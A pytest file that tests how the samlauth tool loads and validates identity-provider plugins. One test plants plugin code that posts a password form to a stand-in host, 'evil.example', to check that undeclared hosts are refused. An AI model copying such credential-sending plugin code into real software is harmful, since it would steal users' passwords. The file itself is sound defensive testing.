"""Which package's provider a name means, and what is taken for a provider."""

from __future__ import annotations

import sys
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest

from samlauth import settings
from samlauth.challenges import Confirm
from samlauth.commands.provider import complete, identity, is_complete, provider_for
from samlauth.errors import NeedsBrowser, SamlauthError, SettingsError, UnsafePage
from samlauth.flow import Page, within
from samlauth.idp.browser import QUESTION
from samlauth.idp.plugins import find
from samlauth.login import Known, Wanted, login
from samlauth.saml import SAMLResponse
from samlauth.sources import Settings, resolve
from samlauth.testing import replay

from . import install, install_documented

HOME = "https://id.example.com"

PLAIN = """
from samlauth.flow import Browse, Request, fetch
from samlauth.reach import Reach, origin_of
from samlauth.saml import SAMLResponse

API = 1

class Provider:
    def __init__(self, told):
        self.told = told
        self.reach = Reach(origin_of("https://id.example.com"))
        self.in_browser = Browse("https://id.example.com/aws", "google C0 ada")

    def sign_in(self):
        yield from fetch(Request("https://id.example.com/aws"))
        return SAMLResponse("PD94", "https://signin.aws.amazon.com/saml")

def provider(told):
    return Provider(told)
"""

Installed = Callable[..., None]


@pytest.fixture
def installed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Installed]:
    """Installs a package for this test."""
    before, count = set(sys.modules), 0

    def install_one(code: str, **options: str) -> None:
        nonlocal count
        count += 1
        monkeypatch.syspath_prepend(install(tmp_path / str(count), code, **options))

    yield install_one
    for name in set(sys.modules) - before:
        if name.startswith("samlauth_"):
            del sys.modules[name]


def named(idp: str, **section: str) -> Settings:
    return resolve({"idp": idp}, {}, {f"samlauth.{key}": text for key, text in section.items()})


def test_a_name_that_is_not_built_in_is_a_packages(installed: Installed) -> None:
    installed(PLAIN)
    values = named("acme")
    assert is_complete(values)
    assert replay(complete(values)).result is values
    provider = provider_for(values)
    run = replay(within(provider.reach, provider.sign_in()), Page(HOME, 200, ""))
    assert run.result == SAMLResponse("PD94", "https://signin.aws.amazon.com/saml")
    assert [request.reach for request in run.requests] == [provider.reach]


def test_it_is_told_the_settings(installed: Installed) -> None:
    code = (
        PLAIN + "\nTOLD = []\ndef provider(told):\n    TOLD.append(told)\n    return Provider(told)"
    )
    installed(code)
    section = {"samlauth.acme.app": "aws-eu", "samlauth.other.app": "no", "samlauth.url": HOME}
    provider_for(resolve({"idp": "acme", "username": "ada", "mfa": "totp"}, {}, section))
    (told,) = sys.modules["samlauth_acme"].TOLD
    assert (told.username, told.url, told.mfa) == ("ada", HOME, "totp")
    assert told.options == {"app": "aws-eu"}
    provider_for(named("acme"))
    told = sys.modules["samlauth_acme"].TOLD[-1]
    assert (told.username, told.url, told.mfa, told.options) == ("", "", "", {})


def test_only_the_one_that_is_named_is_imported(installed: Installed) -> None:
    installed(PLAIN)
    installed("raise SystemExit('imported')", name="other", package="samlauth-other")
    provider_for(named("acme"))
    assert "samlauth_other" not in sys.modules


@pytest.mark.parametrize("spelt", [str.lower, str.title])
@pytest.mark.parametrize(
    ("idp", "section"),
    [
        ("google", {"username": "ada", "idp_id": "C0", "sp_id": "1"}),
        ("adfs", {"adfs_host": "adfs.example.com"}),
        ("browser", {"url": HOME}),
    ],
)
def test_a_built_in_name_cannot_be_taken(
    idp: str, section: dict[str, str], spelt: Callable[[str], str], installed: Installed
) -> None:
    installed("raise SystemExit('imported')", name=spelt(idp))
    provider_for(named(idp, **section))
    with pytest.raises(SettingsError, match="There is no identity provider"):
        find(idp, settings.BUILT_IN)
    with pytest.raises(SettingsError) as refused:
        provider_for(named("acme"))
    assert refused.value.hint.endswith("Plugins: none.")


def test_an_unknown_name_is_met_with_those_that_are_there(installed: Installed) -> None:
    installed(PLAIN)
    installed(PLAIN, name="Zeta", package="samlauth-zeta")
    provider_for(named("Zeta"))
    with pytest.raises(SettingsError, match="There is no identity provider okta") as refused:
        provider_for(named("okta"))
    assert "google, adfs, and browser" in refused.value.hint
    assert refused.value.hint.endswith("Plugins: acme, zeta.")


def test_a_name_that_two_packages_have_is_nobodys(installed: Installed) -> None:
    installed(PLAIN)
    installed(PLAIN, package="samlauth-acme-too", version="2.1")
    with pytest.raises(SettingsError, match=r"samlauth-acme 1\.0 and samlauth-acme-too 2\.1"):
        provider_for(named("acme"))


@pytest.mark.parametrize(
    ("api", "hint", "text"),
    [
        ("API = 2", "Update samlauth.", "written for version 2 .* this samlauth has version 1"),
        ("API = 0", "Update that package.", "written for version 0"),
        ("API = '1'", "Tell those", "does not say for which version"),
        ("", "Tell those", "does not say for which version"),
    ],
)
def test_a_plugin_of_another_version_is_refused_before_it_is_called(
    api: str, hint: str, text: str, installed: Installed
) -> None:
    code = PLAIN.replace("API = 1", api) + "\ndef provider(told): raise SystemExit('called')"
    installed(code)
    with pytest.raises(SettingsError, match=text) as refused:
        provider_for(named("acme"))
    assert refused.value.message.startswith("The identity provider acme, from samlauth-acme 1.0,")
    assert refused.value.hint.startswith(hint)


@pytest.mark.parametrize(
    ("code", "why"),
    [
        ("import there_is_none", "ModuleNotFoundError: No module named 'there_is_none'"),
        ("1 +", "SyntaxError"),
        ("API = 1", "AttributeError: .*provider"),
        ("API = 1\nprovider = 5", "TypeError"),
        ("API = 1\ndef provider(told): return told.tenant", "AttributeError: .*tenant"),
        (f"{PLAIN}\ndef provider(told): raise ValueError('\\x1b[31m')", r"ValueError: \\x1b\[31m"),
        (f"{PLAIN}\ndef provider(told): return None", "its reach is no"),
        (PLAIN.replace("= Reach", "= repr"), "its reach is no"),
        (PLAIN.replace("self.in_browser", "self.browser"), "its in_browser is no"),
        (PLAIN.replace("def sign_in", "def log_in"), "it has no sign_in"),
        (PLAIN.replace('Browse("https', 'Browse("http'), "no browser can safely begin at 'http:"),
    ],
)
def test_a_plugin_that_does_not_work_is_named(code: str, why: str, installed: Installed) -> None:
    installed(code)
    with pytest.raises(SettingsError, match=f"samlauth-acme 1.0, does not work: {why}") as refused:
        provider_for(named("acme"))
    assert refused.value.hint == "Tell those who wrote the plugin."


def test_its_own_word_about_its_settings_stands(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, installed: Installed
) -> None:
    monkeypatch.syspath_prepend(install_documented(tmp_path / "documented"))
    with pytest.raises(SettingsError, match="Where your Acme ID is, is not set") as refused:
        provider_for(named("acme"))
    assert refused.value.hint == "Give it with --url."


def test_it_is_held_to_the_hosts_it_declares(installed: Installed) -> None:
    installed(
        PLAIN.replace(
            "        yield from",
            "        self.reach = Reach(origin_of('https://evil.example'))\n"
            "        form = (('password', 'x'),)\n"
            "        yield from fetch(Request('https://evil.example/', form, carrying='password',"
            " reach=self.reach))\n"
            "        yield from",
        )
    )
    provider = provider_for(named("acme"))
    declared = provider.reach
    for _ in range(2):
        flow = login(provider, Wanted(), Known(), lambda: datetime.now(UTC))
        run = replay(flow, raises=UnsafePage)
        assert run.requests == []
        assert "evil.example" in run.result.message
    assert provider.reach == declared


def test_what_pages_cannot_do_goes_on_in_the_browser(installed: Installed) -> None:
    stop = "raise NeedsBrowser('A passkey.')"
    imports = "from samlauth.errors import NeedsBrowser\n"
    installed(
        imports + PLAIN.replace("return SAMLResponse", f"{stop}\n        return SAMLResponse")
    )
    provider = provider_for(named("acme"))
    response = SAMLResponse("PD94", "https://signin.aws.amazon.com/saml")
    run = replay(within(provider.reach, provider.sign_in()), Page(HOME, 200, ""), True, response)
    assert run.result == response
    assert run.challenges == [Confirm(QUESTION, "A passkey.", setting="browser")]
    # Whatever it calls its browser profile, Google's is not shared with it.
    assert [step.owner for step in run.browsed] == ["plugin acme google C0 ada"]
    assert run.browsed[0].url == f"{HOME}/aws"
    refusing = provider_for(named("acme", browser="false"))
    with pytest.raises(NeedsBrowser):
        replay(within(refusing.reach, refusing.sign_in()), Page(HOME, 200, ""))


@pytest.mark.parametrize("result", ["str(", "print("])
def test_a_sign_in_that_ends_in_something_else_is_its_fault(
    result: str, installed: Installed
) -> None:
    code = PLAIN.replace("return SAMLResponse(", f"return (lambda *_: {result}))(")
    installed(code)
    provider = provider_for(named("acme"))
    with pytest.raises(SettingsError, match="sign-in did not end in a "):
        replay(within(provider.reach, provider.sign_in()), Page(HOME, 200, ""))


def test_a_sign_in_that_fails_says_whose_fault_it_is_and_no_more(installed: Installed) -> None:
    installed(
        PLAIN.replace("return SAMLResponse", "raise KeyError('s3cret')\n        SAMLResponse")
    )
    provider = provider_for(named("acme"))
    with pytest.raises(SamlauthError, match=r"samlauth-acme 1\.0, failed .*: KeyError\.") as failed:
        replay(within(provider.reach, provider.sign_in()), Page(HOME, 200, ""))
    assert "s3cret" not in failed.value.message + failed.value.hint
    assert failed.value.exit_code == 1


def test_errors_of_the_network_are_not_its_own(installed: Installed) -> None:
    installed(PLAIN)
    provider = provider_for(named("acme"))
    with pytest.raises(UnsafePage, match="from outside"):
        replay(within(provider.reach, provider.sign_in()), UnsafePage("from outside"))


def test_other_settings_of_its_own_are_another_identity() -> None:
    def whose(**section: str) -> object:
        return identity(named("acme", **section), "arn")

    same = whose(**{"url": HOME, "acme.app": "a", "acme.b": "c"})
    assert same == whose(**{"acme.b": "c", "acme.app": "a", "url": HOME})
    others = [
        whose(**{"url": HOME, "acme.app": "a"}),
        whose(**{"url": HOME, "acme.app": "b", "acme.b": "c"}),
        whose(**{"url": f"{HOME}/2", "acme.app": "a", "acme.b": "c"}),
        identity(named("acme-2", url=HOME), "arn"),
        whose(),
    ]
    assert len({same, *others}) == 1 + len(others)


def test_no_package_is_loaded_to_know_whose_credentials_they_are(installed: Installed) -> None:
    installed("raise SystemExit('imported')")
    identity(named("acme"), "arn")
    assert settings.IDP.read("ACME") == "acme"
